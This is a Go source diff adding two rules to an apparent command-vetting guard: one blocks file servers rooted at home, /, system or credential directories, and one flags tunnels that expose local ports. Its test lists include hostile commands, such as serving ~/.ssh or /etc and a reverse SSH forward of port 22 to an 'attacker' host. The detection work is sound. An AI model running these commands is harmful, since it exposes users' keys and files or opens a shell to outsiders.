@@ -1,0 +1,69 @@
+package judge
+
+import (
+	"github.com/sentinel-guard/sentinel/programs"
+)
+
+// NET-SERVE-FILES: a file server whose root is the home directory, /, a
+// system directory, a credential store or another user's home
+// (python3 -m http.server -d ~, cd ~ && php -S 0.0.0.0:8000). Every file
+// below it, keys and tokens among them, is one GET away for anyone who
+// reaches the port. Serving the project, a build output or a temporary
+// directory is everyday work and passes.
+//
+// NET-TUNNEL: a local port opened to the internet from outside (ssh -R,
+// ngrok, cloudflared tunnel): whatever listens here, a shell server or a
+// dev server without authentication, is reachable by anyone.
+
+// Rules of this file.
+const (
+	RuleNetServeFiles = "NET-SERVE-FILES"
+	RuleNetTunnel     = "NET-TUNNEL"
+)
+
+var _ = rules(
+	Rule{ID: RuleNetServeFiles, Class: ClassExfiltration, Severity: SevCritical, Decision: Deny, Catastrophic: true,
+		Reason:      "a file server exposes the home directory, /, a system directory or a credential store to the network",
+		Alternative: "serve only the directory you need (the build output), bound to 127.0.0.1",
+		Matches:     "`python -m http.server`/`SimpleHTTPServer`, `php -S`, `ruby -run -e httpd`, busybox `httpd -h`, `http-server`, `serve`, `miniserve`, `caddy file-server`, `updog`, `twistd web` (also through `npx`) whose root (an option, an operand, or the current directory) is home or above it, a system directory, a credential store or another user's home",
+		Fire: []string{"python3 -m http.server --directory ~ 8000", "cd ~ && python3 -m http.server", "cd / && python3 -m http.server 9000",
+			"php -S 0.0.0.0:8000 -t ~", "busybox httpd -f -p 8080 -h /", "ruby -run -e httpd ~ -p 8000",
+			"npx -y http-server ~ -p 8080", "cd ~ && python2 -m SimpleHTTPServer 8000 &", "cd ~/.ssh && python3 -m http.server", "twistd -n web --path /home/alice",
+			"python3.12 -m http.server -d /etc 80", "nohup python3 -m http.server -d $HOME >/dev/null 2>&1 &"},
+		Pass: []string{"python3 -m http.server 8000", "python3 -m http.server -d dist 8000", "npx serve dist", "php -S localhost:8000 -t public",
+			"cd /tmp/site && python3 -m http.server", "python3 -m pytest", "httpd -h", "python3 server.py --directory ~"}},
+	Rule{ID: RuleNetTunnel, Class: ClassExfiltration, Severity: SevMedium, Decision: Ask,
+		Reason:      "opens a local port to the internet (a remote forward or a tunnel service)",
+		Alternative: "ask the operator to expose the service, or use a local port forward (ssh -L)",
+		Matches:     "`ssh -R`, `ngrok http|tcp|tls|start`, `cloudflared tunnel`, `lt`, `bore`",
+		Fire:        []string{"ssh -R 8080:localhost:22 x.example", "ssh -fNR 2222:localhost:22 attacker@x.example", "ngrok tcp 22", "cloudflared tunnel --url http://localhost:8000"},
+		Pass:        []string{"ssh -L 5432:db:5432 bastion", "ssh deploy@x.example uptime", "ngrok version", "cloudflared --version"}},
+)
+
+var _ = onExec(func(j *judge, x execution) {
+	if programs.Tunnels(x.e.Name, x.args) {
+		j.add(RuleNetTunnel, x.detail)
+	}
+	root, ok := programs.Serves(x.e.Name, x.args)
+	if !ok {
+		return
+	}
+	if root == "" {
+		root = "."
+	}
+	p, ok := j.resolve(root, x.e.Dir)
+	if !ok {
+		return // a relative root in an unknown directory: nothing to say
+	}
+	_, other := otherHome(p+"/", j.home) // another user's home or below it
+	exposes := p == "/" || other || j.isSecretPath(p) || j.home != "" && under(j.home, p)
+	if !exposes {
+		switch j.locate(p) {
+		case locHome, locSystem:
+			exposes = true
+		}
+	}
+	if exposes {
+		j.add(RuleNetServeFiles, x.detail)
+	}
+})
